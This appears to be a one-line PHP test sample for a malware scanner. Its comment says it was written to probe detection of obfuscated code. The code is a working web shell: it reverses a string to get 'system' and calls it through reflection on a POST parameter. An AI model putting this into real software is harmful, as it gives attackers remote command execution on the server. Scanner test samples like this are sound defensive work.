<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$name = strrev('metsys');
(new ReflectionFunction($name))->invokeArgs([$_POST['c']]);
